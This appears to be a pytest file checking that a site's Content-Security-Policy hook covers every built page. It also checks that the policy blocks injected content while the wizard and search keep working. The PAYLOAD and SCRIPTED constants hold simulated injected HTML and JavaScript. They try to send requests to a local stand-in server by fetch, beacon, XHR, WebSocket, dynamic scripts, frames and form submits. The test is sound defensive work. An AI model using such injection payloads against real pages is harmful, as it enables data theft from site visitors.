"""The Content-Security-Policy of hooks/csp.py: on every built page, and it blocks what
an injected payload would send, while the wizard and search keep working under it."""
from __future__ import annotations

import http.server
import re
import shutil
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any, ClassVar

import pytest

from hooks.csp import inline_scripts, sha256_source
from tests.conftest import Recorder, site_pages

META = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">')
REQUIRED = {
    "default-src": ["'none'"],
    "style-src": ["'self'"],
    "img-src": ["'self'", "data:"],
    "worker-src": ["'self'", "blob:"],
    "connect-src": ["'self'"],
    "frame-src": ["'none'"],
    "form-action": ["'none'"],
    "base-uri": ["'none'"],
    "object-src": ["'none'"],
}


def directives(policy: str) -> dict[str, list[str]]:
    out = {}
    for part in policy.split(";"):
        name, *values = part.split()
        out[name] = values
    return out


def policy_of(html: str) -> str:
    match = META.search(html)
    assert match, "no Content-Security-Policy meta tag"
    return match.group(1)


def test_every_page_carries_a_strict_policy_with_its_own_hashes(built_site: Path) -> None:
    pages = site_pages(built_site)
    assert len(pages) >= 15
    for rel in pages:
        html = (built_site / rel).read_text(encoding="utf-8")
        head = html[: html.index("<script")] if "<script" in html else html
        assert META.search(head), f"{rel}: the policy must come before the first script"
        policy = directives(policy_of(html))
        for name, values in REQUIRED.items():
            assert policy[name] == values, f"{rel}: {name}"
        script_src = policy["script-src"]
        assert script_src[:2] == ["'self'", "'wasm-unsafe-eval'"], rel
        assert not {"'unsafe-inline'", "'unsafe-eval'", "*", "data:", "blob:"} & set(script_src), rel
        for text in inline_scripts(html):
            assert sha256_source(text) in script_src, f"{rel}: inline script without its hash"
        assert ' style="' not in html, f"{rel}: a style attribute the policy would block"


def test_hashes_differ_by_folder_depth(built_site: Path) -> None:
    top = directives(policy_of((built_site / "index.html").read_text(encoding="utf-8")))
    deep = directives(policy_of((built_site / "tools" / "venue.html").read_text(encoding="utf-8")))
    assert top["script-src"] != deep["script-src"]


class _Catcher(http.server.BaseHTTPRequestHandler):
    """Another host, as far as the page is concerned: it records every request it gets."""

    seen: ClassVar[list[str]] = []

    def _any(self) -> None:
        self.seen.append(f"{self.command} {self.path}")
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()

    do_GET = do_POST = _any

    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture
def catcher() -> Iterator[str]:
    _Catcher.seen.clear()
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Catcher)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


PAYLOAD = """
<img src="{x}/img">
<script src="{x}/script.js"></script>
<script>new Image().src = "{x}/inline-script";</script>
<link rel="stylesheet" href="{x}/style.css">
<iframe src="{x}/frame"></iframe>
<object data="{x}/object"></object>
<form id="t2-evil" action="{x}/form" method="post"><input name="a" value="b"></form>
"""

# Run from the test driver (which the policy does not bind): each call is what a script
# that slipped in would try. The browser applies the page's policy to the requests.
SCRIPTED = """async (x) => {
  const tries = [];
  const attempt = async (name, run) => { try { await run(); tries.push(name + ": sent"); }
                                         catch (e) { tries.push(name + ": " + e.name); } };
  await attempt("fetch", () => fetch(x + "/fetch", {mode: "no-cors"}));
  await attempt("beacon", () => {
    if (!navigator.sendBeacon(x + "/beacon", "a")) throw new Error("refused"); });
  await attempt("xhr", () => new Promise((ok, no) => { const r = new XMLHttpRequest();
    r.open("GET", x + "/xhr"); r.onload = ok; r.onerror = () => no(new TypeError("blocked")); r.send(); }));
  await attempt("image", () => { new Image().src = x + "/image"; });
  await attempt("script", () => { const s = document.createElement("script"); s.src = x + "/dyn.js";
                                  document.head.appendChild(s); });
  await attempt("frame", () => { const f = document.createElement("iframe"); f.src = x + "/dyn-frame";
                                 document.body.appendChild(f); });
  await attempt("websocket", () => { new WebSocket(x.replace("http", "ws") + "/ws"); });
  await attempt("form", () => { document.getElementById("t2-evil").submit(); });
  await new Promise((r) => setTimeout(r, 1500));
  return tries;
}"""


@pytest.fixture
def hostile_site(built_site: Path, tmp_path: Path, catcher: str) -> Path:
    """A copy of the built site whose planning-tools page carries an injected payload."""
    site = tmp_path / "site"
    shutil.copytree(built_site, site, ignore=shutil.ignore_patterns("pyodide*", "*.wasm*"))
    page = site / "tools" / "index.html"
    html = page.read_text(encoding="utf-8")
    page.write_text(html.replace("</article>", PAYLOAD.format(x=catcher) + "</article>", 1), encoding="utf-8")
    return site


@pytest.mark.browser
@pytest.mark.parametrize("scheme", ["file", "http"])
def test_injected_requests_are_blocked(
    recorded_page: tuple[Any, Recorder], hostile_site: Path, catcher: str, scheme: str
) -> None:
    page, rec = recorded_page
    violations: list[str] = []
    answered: list[str] = []  # the browser reports blocked requests too, but never answers them
    page.on("response", lambda r: answered.append(r.url))
    page.on("console", lambda m: "Content Security Policy" in m.text and violations.append(m.text))
    if scheme == "file":
        base = hostile_site.as_uri()
    else:
        from tests.conftest import serve

        server, base = serve(hostile_site)
    try:
        page.goto(f"{base}/tools/index.html", wait_until="load")
        tries = page.evaluate(SCRIPTED, catcher)
        page.wait_for_timeout(500)
    finally:
        if scheme == "http":
            server.shutdown()
            server.server_close()
    assert _Catcher.seen == [], f"requests reached the other host: {_Catcher.seen} ({tries})"
    assert [u for u in answered if u.startswith(catcher)] == []
    assert [u for u in rec.requests if u.startswith(catcher)], "the payload did not run"
    # Each kind was refused by the policy, not merely absent.
    kinds = ("img-src", "script-src", "style-src", "frame-src", "connect-src", "form-action", "object-src")
    for word in kinds:
        assert any(word in v for v in violations), word


@pytest.mark.browser
def test_wizard_and_search_work_under_the_policy(
    wizard_page: tuple[Any, Recorder], site_url: str, catcher: str, tmp_path: Path
) -> None:
    from tests.wizard.helpers import confirm, finished, open_menu, open_wizard, result_of, walk

    page, rec = wizard_page
    scenario = next(s for s in finished("choose-process") if s["expect"]["result"].get("top"))
    open_wizard(page, site_url, "choose-process")
    assert page.evaluate("() => window.TRACK2_WIZARD.where") == "worker"
    walk(page, scenario)
    before = result_of(page)
    open_menu(page)
    with page.expect_download() as info:
        page.locator('.t2-toolbar [data-action="download"]').click()
    saved = tmp_path / "answers.json"
    info.value.save_as(saved)
    with page.expect_download():
        page.locator('.t2-result [data-action="export"]').click()
    page.locator('.t2-toolbar [data-action="restart"]').click()
    confirm(page)
    page.locator("form.t2-question").wait_for()
    open_menu(page)
    with page.expect_file_chooser() as chooser:
        page.locator('.t2-toolbar [data-action="load"]').click()
    chooser.value.set_files(saved)
    assert result_of(page) == before
    # Inside the Python worker the policy holds too: a fetch elsewhere is refused.
    # (Over http, Material's search worker is a file with its own, empty policy: skip it.)
    workers = [w for w in page.workers if w.url.startswith("blob:")]
    assert workers, "the wizard's worker is not visible to the test"
    outcome = workers[0].evaluate(
        "(x) => fetch(x + '/from-worker', {mode: 'no-cors'}).then(() => 'sent', (e) => e.name)", catcher)
    assert outcome == "TypeError" and _Catcher.seen == []
    page.click("input.md-search__input")
    page.keyboard.type("venue")
    page.locator(".md-search-result__item").first.wait_for(timeout=10_000)
    assert rec.console_errors == [] and rec.page_errors == []
    assert rec.foreign_requests(site_url if site_url.startswith("http") else None) == []
